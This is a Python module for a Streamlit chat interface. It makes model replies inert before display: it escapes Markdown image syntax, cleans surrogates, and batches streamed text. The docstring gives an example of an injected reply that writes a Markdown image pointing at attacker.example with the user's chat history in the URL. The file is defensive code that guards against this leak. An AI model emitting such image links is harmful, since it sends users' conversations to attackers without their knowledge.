"""Text on its way to the screen: made inert, and streamed in batches a long reply cannot choke on.

Messages and replies are rendered as Markdown, never with raw HTML (no `unsafe_allow_html`), so a
`<script>` or an `<img onerror>` shows as text. Links still render: following one takes a click.
Images do not: a Markdown image loads by itself, so a reply that was talked into writing
`![](https://attacker.example/?q=<your history>)` would send the history away unseen; its syntax
is shown as text instead. Text is cleaned as it is for the history (`clean_text`): a reply may
carry a lone surrogate (a JSON "\\ud83d" escape), which Streamlit could not even send to the browser.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable, Iterator

from lib.conversation import clean_text

IMAGE_OPENER = "!["
INERT_OPENER = "!\\["  # the bracket escaped: the text `![alt](url)` is shown, nothing is fetched


def inert_markdown(text: str) -> str:
    """`text`, cleaned, for st.markdown with no image syntax left in it."""
    return clean_text(text).replace(IMAGE_OPENER, INERT_OPENER)


def _unfinished(text: str) -> bool:
    """Whether the last character may join the next piece's first: "!" + "[", or a surrogate pair."""
    return text.endswith("!") or "\ud800" <= text[-1:] <= "\udbff"


def inert_deltas(deltas: Iterable[str]) -> Iterator[str]:
    """`inert_markdown` for a reply arriving in pieces: a last character that may pair with the
    next piece's first waits for it."""
    held = ""
    for delta in deltas:
        text = held + delta
        held = text[-1] if _unfinished(text) else ""
        text = text[: len(text) - len(held)]
        if text:
            yield inert_markdown(text)
    if held:
        yield inert_markdown(held)


def batched(
    deltas: Iterable[str], interval_s: float = 0.05, clock: Callable[[], float] = time.monotonic
) -> Iterator[str]:
    """Join pieces that arrive within `interval_s` of the last one shown. Streamlit re-renders the
    whole reply for every piece, so one per token made a 20,000-word answer take minutes."""
    pending: list[str] = []
    shown_at: float | None = None
    for delta in deltas:
        pending.append(delta)
        now = clock()
        if shown_at is None or now - shown_at >= interval_s:
            yield "".join(pending)
            pending, shown_at = [], now
    if pending:
        yield "".join(pending)


def for_screen(deltas: Iterable[str]) -> Iterator[str]:
    """What st.write_stream is given: inert, in batches."""
    return batched(inert_deltas(deltas))


# Per message in the payload preview: a 5 MB paste shown whole (three times: JSON, curl, Python)
# kept the browser's code highlighter busy for minutes.
PREVIEW_CHARS = 20_000


def shortened_body(body: dict, limit: int = PREVIEW_CHARS) -> tuple[dict, int]:
    """`body` for display, each message longer than `limit` cut in the middle (and marked), and how
    many characters were left out."""
    left_out, messages = 0, []
    for message in body.get("messages", []):
        content = message.get("content")
        if isinstance(content, str) and len(content) > limit:
            hidden = len(content) - limit
            left_out += hidden
            head, tail = content[: limit // 2], content[len(content) - limit // 2 :]
            message = {**message, "content": f"{head} …[{hidden:,} characters not shown]… {tail}"}
        messages.append(message)
    return {**body, "messages": messages}, left_out
